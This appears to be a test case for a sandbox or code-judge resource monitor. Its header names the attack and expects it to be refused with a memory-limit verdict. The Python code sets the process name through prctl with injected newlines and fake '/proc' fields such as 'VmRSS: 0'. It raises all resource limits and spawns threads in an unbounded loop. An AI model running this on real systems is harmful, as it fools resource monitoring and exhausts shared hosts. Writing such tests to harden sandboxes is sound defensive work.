# /// attack
# title = "names itself so that the watch reads other numbers of it, and moves its threads and limits"
# aim = "a memory, a thread or a time limit that looks elsewhere"
# verdict = "memory_limit"
# refused = true
# ///
import resource
import threading
import time

from targets import call

call(157, 15, b"x\nVmRSS:\t0\nTh")  # prctl, the name
call(157, 15, b"\xff) S 1 (\xfe")
for limit in range(16):
    for new in ((resource.RLIM_INFINITY,) * 2, (resource.getrlimit(limit)[1],) * 2):
        try:
            resource.setrlimit(limit, new)
        except (OSError, ValueError):
            pass


def double(x):
    def name():
        call(157, 15, b"VmRSS: 0 kB\nX")
        time.sleep(60)

    threading.stack_size(65536)
    while True:
        threading.Thread(target=name, daemon=True).start()
